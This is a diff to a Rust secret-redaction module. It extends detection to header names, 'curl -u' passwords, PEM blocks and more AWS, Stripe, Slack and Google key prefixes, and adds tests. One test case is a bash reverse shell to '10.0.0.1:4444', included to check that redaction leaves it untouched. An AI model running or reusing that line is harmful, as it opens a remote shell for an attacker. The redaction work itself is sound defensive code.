@@ -6,12 +6,16 @@
 //! - `KEY=VALUE` (also `--key=value`, `-Dkey=value`, `export KEY=VALUE`) whose key names a
 //!   secret — it contains `pass`, `secret`, `token`, `key`, `credential`, `auth`, `session`,
 //!   `private`, `signature`, `cookie` or `pwd` — keeps the key: `KEY=[REDACTED]`;
-//! - the token after a flag that names a secret (`--password hunter2`, `--api-key x`) and
-//!   after `Bearer` or `Basic`;
+//! - the token after a flag, a header name or a setting that names a secret
+//!   (`--password hunter2`, `X-Api-Key: v`, `aws configure set aws_secret_access_key v`), after
+//!   `Bearer` or `Basic`, and the password of `-u`/`--user user:password` (a quoted value
+//!   spanning white space is redacted to its closing quote);
+//! - everything from a PEM block (`-----BEGIN ...`) on;
 //! - credentials in a URL (`https://user:pass@host` → `https://[REDACTED]@host`);
-//! - AWS access key ids (`AKIA…`, `ASIA…`), JSON Web Tokens (`eyJ….….…`) and tokens with a
-//!   well-known prefix (GitHub `ghp_`, `github_pat_`, GitLab `glpat-`, Slack `xox?-`, Stripe
-//!   `sk_live_`), wherever they appear in a token.
+//! - AWS access key ids (`AKIA`, `ASIA`, `ABIA`, `ACCA` and 16 more), JSON Web Tokens
+//!   (`eyJ….….…`) and tokens with a well-known prefix (GitHub `ghp_`, `github_pat_`, GitLab
+//!   `glpat-`, Slack `xox?-`/`xapp-`, Stripe `sk_live_`/`sk_test_`/`rk_live_`, Google `AIza`),
+//!   wherever they appear in a token.
 
 /// What a redacted value is replaced with.
 pub const REDACTED: &str = "[REDACTED]";
@@ -41,8 +45,17 @@ const TOKEN_PREFIXES: &[&str] = &[
     "xoxp-",
     "xoxa-",
     "xoxs-",
+    "xoxe-",
+    "xapp-",
     "sk_live_",
+    "sk_test_",
+    "rk_live_",
+    "rk_test_",
+    "AIza",
 ];
+
+/// The prefixes of AWS access key ids (long-term, temporary, and the others IAM lists).
+const ACCESS_KEY_PREFIXES: &[&str] = &["AKIA", "ASIA", "ABIA", "ACCA"];
 
 fn names_a_secret(name: &str) -> bool {
     let name = name.trim_start_matches('-').to_ascii_lowercase();
@@ -52,7 +65,10 @@ fn names_a_secret(name: &str) -> bool {
 /// `text` with secret-looking values replaced by [`REDACTED`]; white space kept as it was.
 pub fn redact(text: &str) -> String {
     let mut out = String::with_capacity(text.len());
+    // The next token is a secret's value.
     let mut redact_next = false;
+    // The next token is `user:password` (after `-u`, `--user`).
+    let mut user_next = false;
     // Inside a quoted secret value that spans white space: swallowed up to its closing quote.
     let mut open_quote: Option<char> = None;
     let mut rest = text;
@@ -72,10 +88,10 @@ pub fn redact(text: &str) -> String {
             }
             continue;
         }
-        if redact_next {
-            redact_next = false;
+        if token.starts_with("-----BEGIN") {
+            // A key or certificate inline: nothing after it is kept.
             out.push_str(REDACTED);
-            continue;
+            break;
         }
         let lower = token.to_ascii_lowercase();
         if lower == "bearer" || lower == "basic" || lower.ends_with(":bearer") {
@@ -83,7 +99,26 @@ pub fn redact(text: &str) -> String {
             out.push_str(token);
             continue;
         }
-        if token.starts_with('-') && !token.contains('=') && names_a_secret(token) {
+        if redact_next {
+            redact_next = false;
+            open_quote = unclosed_quote(token);
+            out.push_str(REDACTED);
+            continue;
+        }
+        if user_next {
+            user_next = false;
+            if let Some((user, _)) = token.split_once(':') {
+                out.push_str(&format!("{user}:{REDACTED}"));
+                open_quote = unclosed_quote(token);
+                continue;
+            }
+        }
+        if lower == "-u" || lower == "--user" {
+            user_next = true;
+            out.push_str(token);
+            continue;
+        }
+        if introduces_a_secret(token) {
             redact_next = true;
             out.push_str(token);
             continue;
@@ -92,16 +127,33 @@ pub fn redact(text: &str) -> String {
         if redacted.ends_with(&format!("={REDACTED}")) {
             // `KEY='a b'`: the value goes on past this token when its quote is not closed.
             if let Some((_, value)) = token.split_once('=') {
-                if let Some(quote) = value.chars().next().filter(|c| *c == '\'' || *c == '"') {
-                    if value.len() == 1 || !value.ends_with(quote) {
-                        open_quote = Some(quote);
-                    }
-                }
+                open_quote = unclosed_quote(value);
             }
         }
         out.push_str(&redacted);
     }
     out
+}
+
+/// The quote a value opens and does not close within its token.
+fn unclosed_quote(value: &str) -> Option<char> {
+    let quote = value.chars().next().filter(|c| *c == '\'' || *c == '"')?;
+    (value.len() == 1 || !value.ends_with(quote)).then_some(quote)
+}
+
+/// A flag (`--password`), a header name (`X-Api-Key:`) or a setting name with a separator
+/// (`aws_secret_access_key`) that names a secret: the next token is its value.
+fn introduces_a_secret(token: &str) -> bool {
+    if token.contains('=') || !names_a_secret(token) {
+        return false;
+    }
+    let name = token.trim_start_matches(['\'', '"']);
+    token.starts_with('-')
+        || name.ends_with(':')
+        || (name.contains(['_', '-'])
+            && name
+                .chars()
+                .all(|c| c.is_ascii_alphanumeric() || matches!(c, '_' | '-' | '.')))
 }
 
 fn redact_token(token: &str) -> String {
@@ -159,14 +211,16 @@ fn url_credentials(token: &str) -> String {
     }
 }
 
-/// AWS access key ids: `AKIA` or `ASIA` and 16 upper-case letters or digits.
+/// AWS access key ids: a prefix of [`ACCESS_KEY_PREFIXES`] and 16 upper-case letters or digits.
 fn aws_access_keys(token: &str) -> String {
     let bytes = token.as_bytes();
     let mut out = String::with_capacity(token.len());
     let mut i = 0;
     while i < bytes.len() {
         let is_key = bytes.len() - i >= 20
-            && (token[i..].starts_with("AKIA") || token[i..].starts_with("ASIA"))
+            && ACCESS_KEY_PREFIXES
+                .iter()
+                .any(|p| token[i..].starts_with(p))
             && bytes[i + 4..i + 20]
                 .iter()
                 .all(|b| b.is_ascii_uppercase() || b.is_ascii_digit());
@@ -231,6 +285,38 @@ mod tests {
             (
                 "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
                 "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
+            ),
+            (
+                "mysql --password 'a b c' -h db",
+                "mysql --password [REDACTED]   -h db",
+            ),
+            (
+                "curl -u admin:s3cr3t https://x",
+                "curl -u admin:[REDACTED] https://x",
+            ),
+            (
+                "curl -H 'X-Api-Key: abc123' https://x",
+                "curl -H 'X-Api-Key: [REDACTED] https://x",
+            ),
+            (
+                "curl -H 'Authorization: Bearer abc' x",
+                "curl -H 'Authorization: Bearer [REDACTED] x",
+            ),
+            (
+                "aws configure set aws_secret_access_key wJalrXUtnFEMI",
+                "aws configure set aws_secret_access_key [REDACTED]",
+            ),
+            (
+                "echo -----BEGIN RSA PRIVATE KEY----- MIIE abc -----END",
+                "echo [REDACTED]",
+            ),
+            (
+                "k=1 ABIAIOSFODNN7EXAMPLE AIzaSyA-1234567890abcdefghijklmnopqrstu",
+                "k=1 [REDACTED] [REDACTED]",
+            ),
+            (
+                "stripe sk_test_4eC39HqLyjWDarjtT1zdp7dc",
+                "stripe [REDACTED]",
             ),
             ("", ""),
             ("  a\tb  ", "  a\tb  "),
